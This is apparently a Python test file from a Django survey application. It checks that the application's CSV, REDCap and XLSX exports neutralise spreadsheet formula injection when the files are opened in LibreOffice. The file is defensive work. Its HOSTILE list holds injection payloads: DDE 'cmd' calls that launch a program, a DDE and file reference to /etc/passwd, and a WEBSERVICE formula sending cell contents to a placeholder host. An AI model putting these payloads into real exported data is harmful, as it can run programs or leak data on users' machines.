"""What leaves as CSV or XLSX runs nothing in LibreOffice, however it is told to cut it."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from django.urls import reverse
from hypothesis import example, given
from hypothesis import strategies as st
from tests.third_party.libreoffice import SEPARATORS, opened, program
from tests.web.collection.conducting_world import AT
from tests.web.collection.receiving_world import asked_of
from tests.web.entrance import let_in

import croisee
import croisee_web
from croisee.formats import Table, neutral, read_table, write_csv, write_sheets
from croisee.formats.labelled import Value
from croisee.formats.redcap_dictionary import RedcapField, read_dictionary, write_dictionary
from croisee.formats.writing import guarded
from croisee.formats.xlsform import Workbook, worksheet_of, write_workbook
from croisee_web.collection.usecases.taking import take_out
from croisee_web.exchange.usecases import export_folder
from croisee_web.study.models import Organisation

HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''=1+1",
    '=HYPERLINK("http://exemple.test";"Cliquez")', '=WEBSERVICE("http://exemple.test/"&A1)',
    "=cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", '=DDE("soffice";"/etc/passwd";"A1")',
    "='file:///etc/passwd'#$Sheet1.A1", "=[autre.xlsx]Feuille!A1", "a,=1+1,b", "a\t=1+1\tb",
    "a\n=1+1\nb", 'a,"=1+1",b', 'a," =1+1",b', "a;=1+1;b", "a,-2+cmd|'/C calc'!A0,b",
    "a,@SUM(1),b", "a\r\n=1+1", '"=1+1', '",=1+1,"', "{=1+1}", " =1+1", "x,\n=1+1",
    "http://exemple.test", "oui, -3 et +4", "l’été, 'bien' – « dit-elle »",
)  # fmt: skip
ALONE = tuple(cell for cell in HOSTILE if cell.strip() == cell)

absent = pytest.mark.skipif(
    program() is None, reason="no LibreOffice Calc (Debian: libreoffice-calc-nogui)"
)


def cut(content, separator):
    """Return the cells that a reader cutting at one separator finds, as Excel does."""
    return [
        cell
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator)
        for cell in row
    ]


def runs(cell):
    """Return whether a spreadsheet may take a cell for a formula that calls something.

    What calls another program is named before its bar, without double quotes nor semicolons: one
    of them stands between one of our cells and the next, where a reader cuts elsewhere than we
    do, and a semicolon is no sign of a formula where cells are cut at something else.
    """
    bare = cell.lstrip(" ")
    called = "|" in re.split('[";]', bare, maxsplit=1)[0]
    return bare[:1] in {"=", "@"} or (bare[:1] in {"+", "-"} and called)


TEXTS = st.lists(st.sampled_from(["=", "@", "-", "+", "'", '"', ",", ";", "\t", "\n", "\r", " ",
                                  "1", "a", "(", "|", "!"]), max_size=9).map("".join)  # fmt: skip


@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4))
@example([("", ","), (",-", "|")])
@example([(",+\ta|-", "\t-a,b|c"), ("\t-\ra|", " +-;|@")])
def test_no_separator_makes_a_formula_of_a_part_of_a_text_and_all_of_it_comes_back(
    tmp_path_factory, rows
):
    path = tmp_path_factory.mktemp("csv") / "a.csv"
    write_csv(path, ("un", "deux"), rows)
    text = path.read_bytes().decode("utf-8-sig")
    for separator in ";,\t":
        assert [cell for cell in cut(text, separator) if runs(cell)] == []
    found = [tuple(cells.values()) for _line, cells in read_table(path).rows]
    assert found == [(a.strip(), b.strip()) for a, b in rows if (a + b).strip()]


def test_guarding_the_beginning_alone_would_leave_some_live():
    """The control of the test above: how cells were written before."""
    made = io.StringIO()
    csv.writer(made, delimiter=";").writerow([neutral("a,=1+1,b"), neutral("a\n=1+1")])
    assert [cell for cell in cut(made.getvalue(), ",") if runs(cell)] == ["=1+1", '=1+1"']


def test_a_dictionary_of_redcap_has_no_formula_and_its_labels_come_back(tmp_path):
    fields = tuple(
        RedcapField(f"q{number}", "f", "radio", trap, (Value("1", trap.replace("|", "/")),),
                    section=trap, note=trap)
        for number, trap in enumerate(HOSTILE)
    )  # fmt: skip
    path = tmp_path / "a.csv"
    path.write_bytes(write_dictionary(fields))
    text = path.read_bytes().decode("utf-8")
    for separator in ";,\t":
        assert [cell for cell in cut(text, separator) if runs(cell)] == []
    said = [(one.section, one.label, one.note, one.values[0].label)
            for one in read_dictionary(path)]  # fmt: skip
    bare = [" ".join(trap.split()) for trap in HOSTILE]
    assert [one[1] for one in said] == bare
    assert [one[3] for one in said] == [one.replace("|", "/") for one in bare]
    assert [(one[0], " ".join(one[2].split())) for one in said] == [(one, one) for one in bare]


def test_one_module_writes_what_a_spreadsheet_opens():
    """Nothing else may make a CSV or a workbook: what is tried here is all there is."""
    apart = {
        "croisee/formats/writing.py", "croisee/formats/xlsform.py",
        "croisee/formats/limesurvey_tsv.py",  # LimeSurvey's, by tabs, which guards as we do
        "croisee/formats/redcap_dictionary.py",  # REDCap's, by commas: typed texts are guarded
        "croisee/disclosure/register.py",  # the gate's own: codes and numbers it made
        "croisee_web/collection/queries/devices.py",  # choices, for an application of telephones
    }  # fmt: skip
    makes = re.compile(r"\b(csv\.(writer|DictWriter)|xlsxwriter\.Workbook)\(")
    roots = [Path(package.__file__).parent for package in (croisee, croisee_web)]
    found = {
        path.relative_to(root.parent).as_posix()
        for root in roots
        for path in root.rglob("*.py")
        if makes.search(path.read_text("utf-8"))
    }
    assert found == apart


def shown(text):
    """Return a text as a cell shows it: every end of line is one."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture(scope="module")
def seen(tmp_path_factory):
    """Our writers' files and careless ones, each read in every way, once for all tests."""
    place = tmp_path_factory.mktemp("tableur")
    rows = [(number, cell) for number, cell in enumerate(HOSTILE)]
    write_csv(place / "a.csv", ("n", "=1+1"), rows)
    with (place / "vif.csv").open("w", encoding="utf-8-sig", newline="") as stream:
        csv.writer(stream, delimiter=";").writerows(rows)
    write_sheets(
        place / "b.xlsx",
        (Table("=1+1", ("n", "=1+1"), tuple(rows)), Table("'[x]'!A1", ("+a", "@b"), ())),
    )
    book = Workbook((worksheet_of("survey", [{"type": "text", "name": "q", "label": cell}
                                             for cell in HOSTILE]),
                     worksheet_of("=1+1", [{"@a": "-1"}])))  # fmt: skip
    (place / "c.xlsx").write_bytes(write_workbook(book))
    with xlsxwriter.Workbook(str(place / "vif.xlsx")) as careless:
        for number, cell in enumerate(HOSTILE):
            careless.add_worksheet().write(number, 0, cell)
    read = {
        how: opened([place / "a.csv", place / "vif.csv"], place / str(number), cut_at=how)
        for number, how in enumerate(SEPARATORS)
    }
    books = [place / name for name in ("b.xlsx", "c.xlsx", "vif.xlsx")]
    return {**read, "xlsx": opened(books, place / "x")}


@absent
@pytest.mark.proof
def test_libreoffice_finds_nothing_live_in_what_we_write(seen):
    live = {(how, name): read.live for how, files in seen.items() for name, read in files.items()}
    ours = {place: found for place, found in live.items() if not place[1].startswith("vif")}
    assert ours == {place: [] for place in ours}
    assert set(ours) == {*((how, "a.csv") for how in SEPARATORS),
                         ("xlsx", "b.xlsx"), ("xlsx", "c.xlsx")}  # fmt: skip


@absent
@pytest.mark.proof
def test_libreoffice_finds_what_is_live_in_a_careless_file(seen):
    """The control: the same texts, written without care, are seen to be formulas and links."""
    for how in (*SEPARATORS, "xlsx"):
        name = "vif.xlsx" if how == "xlsx" else "vif.csv"
        assert any(one.startswith("=of:=1+1") for one in seen[how][name].live), how
    assert any("HYPERLINK" in one for one in seen["xlsx"]["vif.xlsx"].live)
    assert "http://exemple.test" in seen["xlsx"]["vif.xlsx"].live


@absent
@pytest.mark.proof
def test_libreoffice_shows_the_text_that_was_written(seen):
    (sheet,) = seen["semicolon"]["a.csv"].sheets.values()
    same = [shown(one) for one in HOSTILE]
    assert [row[1] for row in sheet] == [shown(guarded(one)) for one in ("=1+1", *HOSTILE)]
    sheets = seen["xlsx"]["b.xlsx"].sheets
    assert list(sheets) == ["1+1", "x_!A1"]
    assert [shown(row[1]) for row in sheets["1+1"]] == ["=1+1", *same]
    assert sheets["x_!A1"][0] == ["+a", "@b"]
    survey = seen["xlsx"]["c.xlsx"].sheets["survey"]
    assert [shown(row[2]) for row in survey] == ["label", *same]


@pytest.fixture
def asked(db, settings, tmp_path):
    settings.KEYS_ROOT, settings.FILES_ROOT = tmp_path / "cles", tmp_path / "fichiers"
    settings.STUDIES_ROOT = tmp_path / "etudes"
    return asked_of()


def unpacked(content, folder, name):
    """Unpack a zip's tables, each under a name that no other has."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for number, inside in enumerate(archive.namelist()):
            assert inside.lstrip("=+-@\t\r") == inside
            if inside.endswith((".csv", ".xlsx")):
                target = folder / f"{name}-{number}{Path(inside).suffix}"
                target.write_bytes(archive.read(inside))


@absent
@pytest.mark.proof
def test_libreoffice_runs_nothing_of_what_the_site_gives(asked, client, tmp_path):
    """Answers, members, questionnaire, links, journal: everything a person may type is a trap."""
    for number, trap in enumerate(HOSTILE, 1):
        asked.receive(number, mot=trap)
    members = list(Organisation.objects.filter(study=asked.world.study))
    for one, trap in zip(members, ALONE, strict=False):
        one.name = trap
        one.save()
    asked.world.lead.name = ALONE[0]
    asked.world.lead.save()
    folder = tmp_path / "pris"
    folder.mkdir()
    for how in ("odk", "odk-xlsx", "dossier", "dossier-xlsx"):
        taken = take_out(study_id=asked.world.study.pk, collecting_id=asked.collecting.pk,
                         how=how, actor=asked.world.researcher, at=AT)  # fmt: skip
        unpacked(taken.content, folder, how)
    whole = tmp_path / "etude"
    export_folder(study_id=asked.world.study.pk, out=whole, actor=asked.world.lead, at=AT)
    for number, path in enumerate(sorted(whole.rglob("*.csv"))):
        (folder / f"etude-{number}.csv").write_bytes(path.read_bytes())
    let_in(client, asked.world.lead)
    journal = client.get(reverse("upkeep:journal-csv", args=["numerique"]))
    (folder / "journal.csv").write_bytes(b"".join(journal.streaming_content))
    tables = sorted(folder.glob("*.csv"))
    said = "".join(one.read_text("utf-8-sig") for one in tables)
    assert "HYPERLINK" in said
    assert len(tables) > 6
    for number, how in enumerate(SEPARATORS):
        found = opened(tables, tmp_path / f"lu{number}", cut_at=how)
        assert {name: read.live for name, read in found.items() if read.live} == {}
    books = opened(sorted(folder.glob("*.xlsx")), tmp_path / "classeurs")
    assert [read.live for read in books.values()] == [[], []]
